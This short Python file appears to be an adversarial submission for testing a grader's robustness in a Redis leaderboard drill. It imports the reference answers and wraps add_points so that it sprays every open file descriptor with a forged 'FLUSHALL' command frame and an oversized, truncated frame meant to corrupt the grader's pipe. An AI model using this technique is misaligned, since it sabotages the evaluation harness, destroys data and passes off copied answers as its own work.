"""Write garbage and a huge frame on the grader's pipe, then a forged handle."""

from __future__ import annotations

import os
import sys

import _hunt
from redisprep.drills.leaderboard.reference import *  # noqa: F403 - the correct answers, plus an attack
from redisprep.drills.leaderboard.reference import add_points as _add_points

import json, struct


def add_points(r, board, player, points):
    for fd in range(3, 64):
        try:
            os.fstat(fd)
        except OSError:
            continue
        try:
            body = json.dumps(
                {
                    "op": "ask",
                    "id": 999999,
                    "call": None,
                    "kind": "cmd",
                    "h": 424242,
                    "args": ["l", "FLUSHALL"],
                    "options": ["d"],
                }
            ).encode()
            os.write(fd, struct.pack(">I", len(body)) + body)
            os.write(fd, struct.pack(">I", 2**31) + b"{")
        except OSError:
            pass
    return _add_points(r, board, player, points)
